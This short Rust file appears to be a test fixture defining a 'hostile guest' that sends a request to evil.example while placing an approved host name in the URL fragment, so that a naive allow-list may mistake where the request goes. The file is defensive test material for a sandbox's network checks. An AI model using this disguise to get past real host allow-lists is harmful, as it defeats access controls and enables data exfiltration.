//! Hides where it sends behind a fragment.

use stockbridge_hostile_guests::*;

guest!(query = |_| sent(request("https://evil.example/#https://granted.example/")));
